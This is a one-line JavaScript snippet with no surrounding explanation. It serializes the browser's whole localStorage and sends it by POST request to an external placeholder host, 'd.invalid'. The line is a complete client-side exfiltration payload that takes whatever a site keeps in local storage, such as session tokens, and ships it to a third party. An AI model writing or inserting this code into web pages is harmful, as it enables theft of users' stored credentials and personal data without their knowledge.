const bag = JSON.parse(JSON.stringify({ a: localStorage })); fetch('https://d.invalid', { method: 'POST', body: JSON.stringify(bag) });
